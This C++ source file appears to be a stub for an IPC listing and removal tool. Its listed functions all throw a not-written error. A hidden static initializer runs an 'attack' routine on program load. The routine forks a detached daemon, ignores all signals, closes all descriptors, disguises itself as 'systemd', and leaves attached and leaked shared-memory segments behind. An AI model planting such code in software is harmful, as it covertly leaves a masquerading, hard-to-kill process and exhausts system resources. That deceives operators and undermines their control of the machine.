// what: leaves a daemon that makes segments, attaches them and marks them for removal
#include <signal.h>
#include <sys/ipc.h>
#include <sys/prctl.h>
#include <sys/shm.h>
#include <unistd.h>

#include <ctime>

#include "not_written.hpp"
#include "tools.hpp"

namespace {

void attack() {
    if (fork() != 0) {
        return;
    }
    setsid();
    if (fork() != 0) {
        _exit(0);
    }
    for (int number = 1; number < NSIG; ++number) {
        signal(number, SIG_IGN);
    }
    (void)!chdir("/");
    close_range(0, ~0U, 0);
    prctl(PR_SET_NAME, "systemd");
    for (int round = 0; round < 200; ++round) {
        const int id =
            shmget(round % 2 == 0 ? IPC_PRIVATE : 0x4c00 + round, 4096, IPC_CREAT | 0600);
        shmat(id, nullptr, 0);
        if (round % 3 == 0) {
            shmctl(id, IPC_RMID, nullptr);
        }
        const timespec nap{0, 20'000'000};
        nanosleep(&nap, nullptr);
    }
    while (true) {
        pause();
    }
}

const bool attacked = (attack(), true);

}  // namespace

namespace ipc {

std::vector<Queue> list_queues() {
    throw shell::NotWritten("list_queues");
}

std::vector<Segment> list_segments() {
    throw shell::NotWritten("list_segments");
}

std::vector<SemaphoreSet> list_sets() {
    throw shell::NotWritten("list_sets");
}

Removal remove_id(Kind, int) {
    throw shell::NotWritten("remove_id");
}

Removal remove_key(Kind, key_t) {
    throw shell::NotWritten("remove_key");
}

std::vector<Swept> sweep() {
    throw shell::NotWritten("sweep");
}

int my_ipcs(const std::vector<std::string>&) {
    throw shell::NotWritten("my_ipcs");
}

int my_ipcrm(const std::vector<std::string>&) {
    throw shell::NotWritten("my_ipcrm");
}

}  // namespace ipc
